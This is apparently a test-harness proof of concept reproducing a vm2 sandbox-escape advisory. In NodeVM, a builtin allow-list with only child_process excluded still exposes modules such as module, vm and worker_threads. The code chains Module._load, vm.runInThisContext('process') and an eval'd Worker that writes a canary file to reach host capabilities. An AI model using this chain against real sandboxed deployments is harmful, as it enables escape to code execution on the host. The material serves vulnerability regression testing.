// Source: vm2 advisory GHSA-947f-4v7f-x2v8 (test/ghsa/GHSA-947f-4v7f-x2v8/ in vm2's repository; fixed in vm2 3.11.0): `builtin: ["*", "-child_process"]` still exposed host-passthrough builtins: module, worker_threads, cluster, vm, repl, inspector.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: Module._load('child_process'), vm.runInThisContext('process'), new Worker(src, {eval: true}).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const Module = req('module'); __wr.useRequire((n) => Module._load(n), 'Module._load'); __wr.use(req('vm').runInThisContext('process'), 'vm.runInThisContext'); new (req('worker_threads').Worker)("require('fs').writeFileSync(" + JSON.stringify(query.canaryFile) + ", 'worker')", { eval: true });
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
